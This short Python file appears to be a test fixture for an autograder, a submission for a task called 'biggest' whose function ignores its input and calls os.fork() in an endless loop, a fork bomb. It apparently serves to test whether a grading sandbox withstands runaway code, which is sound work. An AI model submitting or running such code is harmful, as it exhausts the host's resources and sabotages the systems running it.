# Forks without end.
# points: 0..1
# %% answer: biggest
import os


def biggest(numbers):
    while True:
        try:
            os.fork()
        except OSError:
            continue
